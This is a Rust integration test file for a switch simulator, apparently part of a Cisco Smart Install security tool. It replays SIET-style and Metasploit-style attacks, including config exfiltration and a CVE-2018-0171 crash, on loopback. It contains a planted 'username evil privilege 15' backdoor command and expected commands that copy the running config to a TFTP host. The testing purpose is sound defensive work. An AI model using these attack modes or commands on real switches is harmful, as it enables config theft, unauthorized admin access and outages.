//! `ztpgate sim switch` and `ztpgate sim attack` end to end, on loopback, against the real
//! Debian `tftpd-hpa` daemon: the 24- and 20-byte probe replies, config exfiltration (SIET
//! get-config: the running config really arrives in the TFTP directory), an execute file that
//! changes the running config, the CVE-2018-0171 PoC dropping the connection, and
//! `vstack decode` naming every dumped corpus message without panicking.
//!
//! Tests that need `in.tftpd` skip with a reason when it is missing (scripts/install-deps.sh
//! installs it) or when not running as root (it is started with `-u root`).

// Test helpers outside #[test] functions: a panic is the failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{BufRead, BufReader};
use std::net::UdpSocket;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use common::{BIN, s, stdout, succeeded, ztpgate};
use serde_json::Value;

/// A `tftpd-hpa` in the foreground on 127.0.0.1, serving a temp directory; killed on drop.
struct Tftpd {
    child: Child,
    port: u16,
    dir: tempfile::TempDir,
}

impl Tftpd {
    /// `None` (with the reason printed) when the daemon cannot run here.
    fn start() -> Option<Self> {
        let daemon = ["/usr/sbin/in.tftpd", "/sbin/in.tftpd"]
            .into_iter()
            .find(|p| Path::new(p).exists());
        let Some(daemon) = daemon else {
            eprintln!("skipped: in.tftpd (tftpd-hpa) is not installed");
            return None;
        };
        let uid = Command::new("id").arg("-u").output().ok()?;
        if String::from_utf8_lossy(&uid.stdout).trim() != "0" {
            eprintln!("skipped: in.tftpd -u root needs root");
            return None;
        }
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        let port = UdpSocket::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let child = Command::new(daemon)
            .args([
                "-L",
                "-a",
                &format!("127.0.0.1:{port}"),
                "-c",
                "-p",
                "-u",
                "root",
            ])
            .args(["-s", s(dir.path())])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(300));
        Some(Self { child, port, dir })
    }

    /// Writes a world-readable file (tftpd-hpa serves only those).
    fn put_file(&self, name: &str, content: &str) {
        let path = self.dir.path().join(name);
        std::fs::write(&path, content).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    }

    /// Waits up to 10 s for `name` to arrive and contain `needle`.
    fn wait_for_file(&self, name: &str, needle: &str) -> String {
        let path = self.dir.path().join(name);
        for _ in 0..200 {
            if let Ok(text) = std::fs::read_to_string(&path)
                && text.contains(needle)
            {
                return text;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        panic!("{name} never arrived with {needle:?}");
    }
}

impl Drop for Tftpd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A running `sim switch`, with its event lines; killed on drop.
struct Switch {
    child: Child,
    addr: String,
    events: mpsc::Receiver<Value>,
}

impl Switch {
    fn start(tftp_port: u16) -> Self {
        let mut child = Command::new(BIN)
            .args([
                "sim",
                "switch",
                "--listen",
                "127.0.0.1:0",
                "--hostname",
                "emul-sw",
            ])
            .args([
                "--tftp-port",
                &tftp_port.to_string(),
                "--tftp-timeout-ms",
                "300",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let out = child.stdout.take().unwrap();
        let (tx, events) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(out).lines().map_while(Result::ok) {
                let _ = tx.send(serde_json::from_str(&line).unwrap());
            }
        });
        let first: Value = events.recv_timeout(Duration::from_secs(10)).unwrap();
        assert_eq!(first["event"], "listening");
        let addr = first["addr"].as_str().unwrap().to_owned();
        Self {
            child,
            addr,
            events,
        }
    }

    /// Waits (10 s per event, 200 events at most) for an event of `kind` for which `pred` holds.
    fn wait_event(&self, kind: &str, pred: impl Fn(&Value) -> bool) -> Value {
        for _ in 0..200 {
            let ev = self
                .events
                .recv_timeout(Duration::from_secs(10))
                .unwrap_or_else(|_| panic!("no {kind} event"));
            if ev["event"] == kind && pred(&ev) {
                return ev;
            }
        }
        panic!("no {kind} event among 200");
    }

    fn attack(&self, mode: &str, extra: &[&str]) -> Value {
        let mut args = vec!["sim", "attack", "--target", &self.addr, "--mode", mode];
        args.extend_from_slice(&["--wait-ms", "500"]);
        args.extend_from_slice(extra);
        let out = ztpgate(&args);
        serde_json::from_str(&succeeded(&out)).unwrap()
    }
}

impl Drop for Switch {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A TFTP port with nothing behind it (for tests that never reach TFTP).
fn unused_port() -> u16 {
    UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn probes_get_the_24_and_20_byte_replies() {
    let switch = Switch::start(unused_port());
    let r = switch.attack("test", &[]);
    assert_eq!(
        r["received_hex"],
        "000000040000000000000003000000080000000100000000"
    );
    assert_eq!(r["outcome"], "complete");
    let r = switch.attack("greenbone", &[]);
    assert_eq!(
        r["received_hex"],
        "0000000400000000000000040000000400000001"
    );
    let r = switch.attack("pipelined", &["--tftp", "127.0.0.1"]);
    assert_eq!(r["replies"][0], "probe_reply");
}

#[test]
fn get_config_uploads_the_running_config_to_tftpd() {
    let Some(tftpd) = Tftpd::start() else { return };
    let switch = Switch::start(tftpd.port);
    let r = switch.attack("get-config", &["--tftp", "127.0.0.1"]);
    assert_eq!(r["sent_bytes"], 1048);
    let config = tftpd.wait_for_file("127.0.0.1.conf", "hostname emul-sw");
    assert!(config.contains("snmp-server community"), "{config}");
    let ev = switch.wait_event("tftp", |e| e["op"] == "put");
    assert_eq!(ev["ok"], true, "{ev}");
    assert_eq!(ev["file"], "127.0.0.1.conf");
    assert_eq!(ev["bytes"].as_u64().unwrap() as usize, config.len());
}

#[test]
fn split_message_and_execute_file_change_what_leaves_the_switch() {
    let Some(tftpd) = Tftpd::start() else { return };
    tftpd.put_file(
        "execute.txt",
        "\"username evil privilege 15 secret 0 x\" \"exit\"",
    );
    let switch = Switch::start(tftpd.port);
    switch.attack("execute", &["--tftp", "127.0.0.1"]);
    let ev = switch.wait_event("tftp", |e| e["purpose"] == "commands");
    assert_eq!(ev["ok"], true, "{ev}");
    let r = switch.attack("split", &["--tftp", "127.0.0.1", "--file", "after.conf"]);
    assert_eq!(r["segments"], 4);
    let config = tftpd.wait_for_file("after.conf", "username evil privilege 15");
    assert!(config.trim_end().ends_with("end"), "{config}");
}

#[test]
fn missing_tftp_file_is_a_failed_transfer_event() {
    let Some(tftpd) = Tftpd::start() else { return };
    let switch = Switch::start(tftpd.port);
    switch.attack("legacy-test", &["--tftp", "127.0.0.1"]);
    let ev = switch.wait_event("tftp", |e| e["purpose"] == "config");
    assert_eq!(ev["ok"], false, "{ev}");
    assert_eq!(ev["file"], "random_file");
}

#[test]
fn cve_2018_0171_poc_crashes_the_connection() {
    let switch = Switch::start(unused_port());
    let r = switch.attack("cve-2018-0171", &[]);
    assert_ne!(r["outcome"], "complete", "{r}");
    let ev = switch.wait_event("crash", |_| true);
    assert_eq!(ev["declared"], 216);
    // The switch still answers new connections.
    let r = switch.attack("test", &[]);
    assert_eq!(r["received_bytes"], 24);
}

/// Expected first kind, URL and command (substring) per dumped mode.
const DUMP_EXPECT: [(&str, &str, &str, &str); 12] = [
    ("test", "probe", "", ""),
    ("talos", "probe", "", ""),
    ("greenbone", "probe", "", ""),
    (
        "legacy-test",
        "config_push",
        "tftp://198.51.100.7/random_file",
        "",
    ),
    (
        "get-config",
        "copy_commands",
        "tftp://198.51.100.7/192.0.2.2.conf",
        "copy system:running-config flash:/config.text",
    ),
    (
        "msf-download",
        "copy_commands",
        "tftp://198.51.100.7/msfcfgdl",
        "copy system:running-config tftp://",
    ),
    (
        "change-config",
        "config_push",
        "tftp://198.51.100.7/192.0.2.2.conf",
        "",
    ),
    (
        "update-ios",
        "image_upgrade",
        "tftp://198.51.100.7/tar_imglist0.txt",
        "",
    ),
    ("execute", "execute", "tftp://198.51.100.7/execute.txt", ""),
    ("cve-2018-0171", "init_discovery", "", ""),
    (
        "split",
        "copy_commands",
        "tftp://198.51.100.7/192.0.2.2.conf",
        "copy flash:/config.text tftp://",
    ),
    ("pipelined", "probe", "", ""),
];

#[test]
fn every_dumped_corpus_message_decodes_with_its_kind_urls_and_commands() {
    let dir = tempfile::tempdir().unwrap();
    let out = ztpgate(&[
        "sim",
        "attack",
        "--dump",
        s(dir.path()),
        "--tftp",
        "198.51.100.7",
    ]);
    succeeded(&out);
    let list = ztpgate(&["sim", "attack", "--list"]);
    for (mode, kind, url, command) in DUMP_EXPECT {
        assert!(stdout(&list).contains(mode), "--list lacks {mode}");
        let path: PathBuf = dir.path().join(format!("{mode}.bin"));
        let out = ztpgate(&["vstack", "decode", "--json", s(&path)]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "{mode}: {stderr}");
        let doc: Value = serde_json::from_str(&stdout(&out)).unwrap();
        let first = &doc["messages"][0];
        assert_eq!(first["kind"], kind, "{mode}");
        let text = doc["messages"].to_string();
        assert!(text.contains(url), "{mode}: {text}");
        assert!(text.contains(command), "{mode}: {text}");
        let expect_error = mode == "cve-2018-0171";
        assert_eq!(
            doc["error"].is_null(),
            !expect_error,
            "{mode}: {}",
            doc["error"]
        );
    }
    let piped: Value = serde_json::from_str(&stdout(&ztpgate(&[
        "vstack",
        "decode",
        "--json",
        s(&dir.path().join("pipelined.bin")),
    ])))
    .unwrap();
    assert_eq!(piped["messages"][1]["kind"], "copy_commands");
}
